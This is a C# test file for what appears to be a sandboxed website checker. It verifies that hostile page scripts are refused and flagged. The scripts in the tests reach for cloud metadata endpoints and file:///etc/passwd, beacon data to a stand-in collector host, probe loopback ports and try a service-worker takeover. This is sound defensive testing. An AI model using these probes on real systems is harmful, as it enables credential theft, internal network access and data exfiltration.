using System.Net;
using System.Net.Sockets;
using TmuxBuilder.Checks.Tests.Support;

namespace TmuxBuilder.Checks.Tests.Hostile;

/// <summary>What a page tries to reach that is not its site.</summary>
public sealed class ReachTests
{
    [Fact]
    public async Task What_is_not_the_site_is_refused_and_named()
    {
        (string Script, string Rule)[] attempts =
        [
            ("fetch('http://169.254.169.254/latest/meta-data/').catch(() => {})", "address.forbidden"),
            ("location.href = 'http://169.254.169.254/latest/user-data/'", "address.forbidden"),
            ("new Image().src = 'http://[fd00:ec2::254]/latest/'", "address.forbidden"),
            ("fetch('http://tmux-aaaaaaaaaaaa-b-20260101-000000.localhost/').catch(() => {})", "address.forbidden"),
            ("location.href = 'file:///etc/passwd'", "address.forbidden"),
            ("location.href = 'data:text/html,<h1>elsewhere</h1>'", "address.forbidden"),
            ("fetch('http://127.0.0.1:3128/', { mode: 'no-cors' }).catch(() => {})", "address.forbidden"),
            ("new WebSocket('ws://127.0.0.1:3128/')", "address.forbidden"),
            ("new WebSocket('wss://collector.example.com/')", "resource.elsewhere"),
            ("navigator.sendBeacon('https://collector.example.com/', 'x')", "resource.elsewhere"),
        ];
        var links = attempts.Select((_, at) => $"""<p><a href="/{at}.html">Attempt number {at}</a></p>""");
        await using var world = new CheckWorld().With(GoodSite.Files(string.Concat(links)));
        foreach (var (at, (script, _)) in attempts.Index())
        {
            world.With($"{at}.html", GoodSite.Page($"<p>Attempt {at}.</p><script>{script}</script>", $"Attempt {at}"));
        }

        var report = await world.ReportAsync();

        Assert.Equal(
            attempts.Select((attempt, at) => $"/{at}.html {attempt.Rule}"),
            attempts.Select((attempt, at) => report.Findings
                .Where(finding => finding.Page == $"/{at}.html" && finding.Rule == attempt.Rule)
                .Select(finding => $"{finding.Page} {finding.Rule}").FirstOrDefault()));
    }

    [Fact]
    public async Task Nothing_on_the_workers_own_machine_hears_of_a_checked_page()
    {
        using var canary = new TcpListener(IPAddress.Loopback, 0);
        canary.Start();
        var port = ((IPEndPoint)canary.LocalEndpoint).Port;
        string[] hosts = ["127.0.0.1", "localhost", "0.0.0.0", "2130706433", "x.localhost", CheckWorld.Host];
        var names = string.Join(',', hosts.Select(name => $"'{name}:{port}'"));
        await using var world = new CheckWorld().With(GoodSite.Files($$"""
            <script>
              for (const host of [{{names}}]) {
                fetch(`http://${host}/`, { mode: 'no-cors' }).catch(() => {});
                new Image().src = `http://${host}/picture`;
                try { new WebSocket(`ws://${host}/socket`); } catch { }
                navigator.sendBeacon(`http://${host}/beacon`, 'x');
                const frame = document.createElement('iframe');
                frame.title = 'inner';
                frame.src = `http://${host}/frame`;
                document.body.append(frame);
              }
              for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'modulepreload', 'stylesheet']) {
                const hint = document.createElement('link');
                [hint.rel, hint.href] = [rel, 'http://127.0.0.1:{{port}}/hint'];
                document.head.append(hint);
              }
              const rules = document.createElement('script');
              rules.type = 'speculationrules';
              rules.textContent = '{"prerender":[{"source":"list","urls":["http://127.0.0.1:{{port}}/ahead"],"eagerness":"immediate"}]}';
              document.head.append(rules);
              new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{port}}' }] }).createDataChannel('x');
            </script>
            """));

        var report = await world.ReportAsync();

        Assert.False(canary.Pending());
        Assert.Contains(report.Findings, finding => finding.Rule == "address.forbidden");
    }

    [Fact]
    public async Task A_page_that_closes_itself_or_wants_to_stay_behind_is_checked_all_the_same()
    {
        var files = GoodSite.Files("""
            <p><a href="/stay.html">A page that stays</a></p>
            <script>
              window.close();
              open('', '_self').close();
            </script>
            """);
        files["stay.html"] = GoodSite.Page("""
            <p>It would like to answer for the site from now on.</p>
            <script>
              ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/worker.js')
                .then((kept) => { document.title = kept.scope; });
              addEventListener('beforeunload', (event) => event.preventDefault());
            </script>
            """);
        files["worker.js"] = "addEventListener('fetch', (event) => event.respondWith(new Response('taken over')));";
        await using var world = new CheckWorld().With(files);

        var report = await world.ReportAsync();

        Assert.Equal(["/", "/stay.html"], report.Pages.Select(page => page.Path));
        Assert.Equal("Morgenrot bakery", report.Pages[1].Title);
        Assert.Empty(report.Findings);
        Assert.Empty(Directory.GetFileSystemEntries(world.RunFolder));
        Assert.False(Processes.AnyNames(world.RunFolder));
    }
}
